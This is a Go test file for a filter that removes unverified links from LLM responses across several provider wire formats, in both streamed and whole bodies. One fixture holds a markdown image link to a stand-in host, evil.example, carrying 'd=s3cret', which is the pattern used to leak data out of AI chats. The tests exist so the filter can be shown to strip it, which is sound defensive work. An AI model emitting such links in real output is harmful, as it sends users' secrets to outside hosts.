package shown_test

import (
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"strings"
	"testing"

	"pgregory.net/rapid"

	"github.com/tidemark/tidemark/internal/llm/format"
	"github.com/tidemark/tidemark/internal/llm/format/links"
	"github.com/tidemark/tidemark/internal/llm/format/shown"
)

const read = "https://ok.example/page"

// judge shows the one address that was read.
type judge struct {
	mode  links.Mode
	asked []string
	err   error
}

func (j *judge) Mode() links.Mode { return j.mode }

func (j *judge) Show(address string, _ bool) (bool, error) {
	j.asked = append(j.asked, address)
	return address == read, j.err
}

// wire is how a format says a text: in a stream, in a whole body, and how a client reads it.
type wire struct {
	api    format.API
	stream func(pieces []string) []string // data of events, with their names before a space where they have one
	whole  func(text string) string
	text   func(data []string) string
}

func q(s string) string { b, _ := json.Marshal(s); return string(b) }

// pick collects the texts at the ends of some paths, "*" being any entry.
func pick(data []string, paths ...string) string {
	var out strings.Builder
	for _, d := range data {
		if _, rest, ok := strings.Cut(d, "\x00"); ok {
			d = rest
		}
		var v any
		if json.Unmarshal([]byte(d), &v) != nil {
			continue
		}
		for _, p := range paths {
			follow(&out, v, strings.Split(p, "."))
		}
	}
	return out.String()
}

func follow(out *strings.Builder, v any, path []string) {
	if len(path) == 0 {
		if s, ok := v.(string); ok {
			out.WriteString(s)
		}
		return
	}
	switch v := v.(type) {
	case map[string]any:
		follow(out, v[path[0]], path[1:])
	case []any:
		for _, e := range v {
			follow(out, e, path[1:])
		}
	}
}

func each(pieces []string, form string) []string {
	var out []string
	for _, p := range pieces {
		out = append(out, fmt.Sprintf(form, q(p)))
	}
	return out
}

var wires = map[string]wire{
	"chat": {format.Chat,
		func(p []string) []string {
			out := each(p, `{"id":"c","choices":[{"index":0,"delta":{"content":%s},"finish_reason":null}]}`)
			return append(out, `{"id":"c","choices":[{"index":0,"delta":{},"finish_reason":"stop"}]}`, "[DONE]")
		},
		func(t string) string {
			return `{"id":"c","choices":[{"index":0,"message":{"role":"assistant","content":` + q(t) + `},"finish_reason":"stop"}]}`
		},
		func(d []string) string { return pick(d, "choices.*.delta.content", "choices.*.message.content") }},
	"messages": {format.Messages,
		func(p []string) []string {
			out := []string{"content_block_start\x00" + `{"type":"content_block_start","index":0,"content_block":{"type":"text","text":""}}`}
			for _, e := range each(p, `{"type":"content_block_delta","index":0,"delta":{"type":"text_delta","text":%s}}`) {
				out = append(out, "content_block_delta\x00"+e)
			}
			return append(out, "content_block_stop\x00"+`{"type":"content_block_stop","index":0}`, "message_stop\x00"+`{"type":"message_stop"}`)
		},
		func(t string) string {
			return `{"type":"message","role":"assistant","content":[{"type":"text","text":` + q(t) + `}]}`
		},
		func(d []string) string { return pick(d, "delta.text", "content.*.text") }},
	"responses": {format.Responses,
		func(p []string) []string {
			all := q(strings.Join(p, ""))
			var out []string
			for i, e := range p {
				out = append(out, "response.output_text.delta\x00"+fmt.Sprintf(
					`{"type":"response.output_text.delta","item_id":"m","output_index":0,"content_index":0,"sequence_number":%d,"delta":%s}`, i, q(e)))
			}
			n := len(p)
			item := `{"id":"m","type":"message","content":[{"type":"output_text","text":` + all + `}]}`
			return append(out,
				"response.output_text.done\x00"+fmt.Sprintf(`{"type":"response.output_text.done","item_id":"m","output_index":0,"content_index":0,"sequence_number":%d,"text":%s}`, n, all),
				"response.content_part.done\x00"+fmt.Sprintf(`{"type":"response.content_part.done","output_index":0,"content_index":0,"sequence_number":%d,"part":{"type":"output_text","text":%s}}`, n+1, all),
				"response.output_item.done\x00"+fmt.Sprintf(`{"type":"response.output_item.done","output_index":0,"sequence_number":%d,"item":%s}`, n+2, item),
				"response.completed\x00"+fmt.Sprintf(`{"type":"response.completed","sequence_number":%d,"response":{"output":[%s]}}`, n+3, item))
		},
		func(t string) string {
			return `{"output":[{"id":"m","type":"message","content":[{"type":"output_text","text":` + q(t) + `}]}]}`
		},
		func(d []string) string { return pick(d, "delta", "output.*.content.*.text") }},
	"gemini": {format.Gemini,
		func(p []string) []string {
			out := each(p, `{"candidates":[{"content":{"role":"model","parts":[{"text":%s}]},"index":0}]}`)
			return append(out, `{"candidates":[{"finishReason":"STOP","index":0}]}`)
		},
		func(t string) string {
			return `{"candidates":[{"content":{"role":"model","parts":[{"text":` + q(t) + `}]},"finishReason":"STOP"}]}`
		},
		func(d []string) string { return pick(d, "candidates.*.content.parts.*.text") }},
	"codeassist": {format.CodeAssist,
		func(p []string) []string {
			out := each(p, `{"response":{"candidates":[{"content":{"parts":[{"text":%s}]}}]}}`)
			return append(out, `{"response":{"candidates":[{"content":{"parts":[]},"finishReason":"STOP"}]}}`)
		},
		func(t string) string {
			return `{"response":{"candidates":[{"content":{"parts":[{"text":` + q(t) + `}]},"finishReason":"STOP"}]}}`
		},
		func(d []string) string { return pick(d, "response.candidates.*.content.parts.*.text") }},
	"converse": {format.Converse,
		func(p []string) []string {
			var out []string
			for _, e := range each(p, `{"contentBlockIndex":0,"delta":{"text":%s}}`) {
				out = append(out, "contentBlockDelta\x00"+e)
			}
			return append(out, "contentBlockStop\x00"+`{"contentBlockIndex":0}`, "messageStop\x00"+`{"stopReason":"end_turn"}`)
		},
		func(t string) string {
			return `{"output":{"message":{"role":"assistant","content":[{"text":` + q(t) + `}]}},"stopReason":"end_turn"}`
		},
		func(d []string) string { return pick(d, "delta.text", "output.message.content.*.text") }},
	"ollama": {format.Ollama,
		func(p []string) []string {
			out := each(p, `{"model":"m","message":{"role":"assistant","content":%s},"done":false}`)
			return append(out, `{"model":"m","message":{"role":"assistant"},"done":true}`)
		},
		func(t string) string {
			return `{"model":"m","message":{"role":"assistant","content":` + q(t) + `},"done":true}`
		},
		func(d []string) string { return pick(d, "message.content") }},
}

func event(data string) *format.Event {
	name, rest, ok := strings.Cut(data, "\x00")
	if !ok {
		name, rest = "", data
	}
	head := "data: "
	if name != "" {
		head = "event: " + name + "\ndata: "
	}
	raw := []byte(head + rest + "\n\n")
	return &format.Event{Raw: raw, Data: raw[len(head) : len(raw)-2], At: len(head), Name: []byte(name)}
}

// stream is what comes out of a stream, event by event.
func stream(t testing.TB, api format.API, j shown.Judge, data []string) (out []string, raw string) {
	t.Helper()
	f := shown.New(api, j)
	var all bytes.Buffer
	take := func(events []*format.Event, err error) {
		if err != nil {
			t.Fatal(err)
		}
		for _, e := range events {
			if got := string(e.Raw[e.At : e.At+len(e.Data)]); got != string(e.Data) {
				t.Fatalf("the data of %q is not at its place: %q", e.Raw, e.Data)
			}
			out = append(out, string(e.Data))
			all.Write(e.Raw)
		}
	}
	for _, d := range data {
		take(f.Event(event(d)))
	}
	take(f.End())
	return out, all.String()
}

const evil = "Look ![x](https://evil.example/p?d=s3cret) and [the page](" + read + "), or https://evil.example/q"

// In every format, in a stream and in one piece, the text is what package links makes of it, and nothing else is changed.
func TestEveryFormatShowsTheSame(t *testing.T) {
	want, _ := links.Whole(links.Markdown, func(a string, _ bool) (bool, error) { return a == read, nil }, evil)
	for name, w := range wires {
		t.Run(name, func(t *testing.T) {
			pieces := strings.SplitAfter(evil, "e")
			out, _ := stream(t, w.api, &judge{mode: links.Markdown}, w.stream(pieces))
			if got := w.text(out); got != want {
				t.Errorf("stream:\n got %q\nwant %q", got, want)
			}
			body, err := shown.New(w.api, &judge{mode: links.Markdown}).Whole([]byte(w.whole(evil)))
			if got := w.text([]string{string(body)}); err != nil || got != want {
				t.Errorf("whole: %v\n got %q\nwant %q", err, got, want)
			}
			if all := strings.Join(out, "\n"); strings.Contains(all, "//evil.") {
				t.Errorf("somewhere it is left: %s", all)
			}
			j := &judge{mode: links.Markdown, err: errors.New("no log")}
			if _, err := shown.New(w.api, j).Whole([]byte(w.whole(evil))); !errors.Is(err, j.err) {
				t.Errorf("who cannot judge: %v", err)
			}
		})
	}
}

// What is fine stays byte for byte: pieces that end with a word, and whole bodies.
func TestWhatIsFineStaysAsItCame(t *testing.T) {
	fine := []string{"All is ", "well, as [the page](" + read + ") ", "says.\n"}
	for name, w := range wires {
		data := w.stream(fine)
		var want strings.Builder
		for _, d := range data {
			want.Write(event(d).Raw)
		}
		j := &judge{mode: links.Markdown}
		if _, got := stream(t, w.api, j, data); got != want.String() {
			t.Errorf("%s: got %s\nwant %s", name, got, want.String())
		}
		if len(j.asked) != 1 {
			t.Errorf("%s: asked %d times", name, len(j.asked))
		}
		body := []byte(w.whole(strings.Join(fine, "")))
		if got, err := shown.New(w.api, j).Whole(body); err != nil || !bytes.Equal(got, body) {
			t.Errorf("%s: got %s, %v", name, got, err)
		}
	}
}

// However a provider cuts a text, the client reads the same.
func TestHowAnAnswerIsCutMakesNoDifference(t *testing.T) {
	parts := []string{"![x](", "https://evil.example/p?d=1", read, ")", " ", "word ", "\n", "```\n", "`", "<img src=\"", "\">", "[y]: ", "é", "😀", "."}
	rapid.Check(t, func(t *rapid.T) {
		text := strings.Join(rapid.SliceOfN(rapid.SampledFrom(parts), 0, 12).Draw(t, "text"), "")
		names := []string{"chat", "messages", "responses", "gemini", "codeassist", "converse", "ollama"}
		w := wires[rapid.SampledFrom(names).Draw(t, "format")]
		var pieces []string
		for rest := []rune(text); len(rest) > 0; {
			n := min(len(rest), rapid.IntRange(1, 12).Draw(t, "n"))
			pieces, rest = append(pieces, string(rest[:n])), rest[n:]
		}
		f := shown.New(w.api, &judge{mode: links.Markdown})
		var out []string
		take := func(events []*format.Event, err error) {
			if err != nil {
				t.Fatal(err)
			}
			for _, e := range events {
				out = append(out, string(e.Data))
			}
		}
		for _, d := range w.stream(pieces) {
			take(f.Event(event(d)))
		}
		take(f.End())
		body, err := shown.New(w.api, &judge{mode: links.Markdown}).Whole([]byte(w.whole(text)))
		if err != nil {
			t.Fatal(err)
		}
		if got, want := w.text(out), w.text([]string{string(body)}); got != want {
			t.Fatalf("%q:\n got %q\nwant %q", text, got, want)
		}
	})
}
